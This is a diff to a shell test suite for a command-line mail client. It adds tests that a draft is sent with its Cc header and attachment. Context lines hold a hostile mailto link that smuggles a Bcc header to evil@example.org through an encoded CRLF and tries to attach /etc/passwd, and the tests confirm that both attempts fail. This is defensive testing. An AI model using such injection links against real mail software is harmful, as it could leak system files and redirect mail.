@@ -39,6 +39,11 @@ is "one copy in Sent" "$(find "$TERN_HOME/Mail/home/Sent/cur" -type f | wc -l)" 
 is "which decodes" "$(tern show --json "$TERN_HOME"/Mail/home/Sent/cur/* | grep -c 'Über alles')" 1
 is "only the first draft is left" "$(ls "$TERN_HOME/data/drafts" | grep -v ^sent | grep -c '\.eml$')" 1
 
+second=$(tern compose --draft "$draft" --cc me --send)
+ok "a draft goes on and out" grep -q "^Cc: me@localhost" "$TERN_HOME/data/outbox/$second.eml"
+ok "with its attachment" grep -q "file.bin" "$TERN_HOME/data/outbox/$second.eml"
+is "and is no draft any more" "$(ls "$TERN_HOME/data/drafts" | grep -v ^sent | grep -c '\.eml$')" 0
+
 tern compose "mailto:a@example.org?subject=x%0D%0ABcc:evil@example.org&attach=/etc/passwd" >"$TERN_HOME/id"
 status_is "a link attaches nothing" 1 grep -rq "passwd" "$TERN_HOME/data/drafts/$(cat "$TERN_HOME/id").eml"
 status_is "and makes no field" 1 grep -q "^Bcc" "$TERN_HOME/data/drafts/$(cat "$TERN_HOME/id").eml"
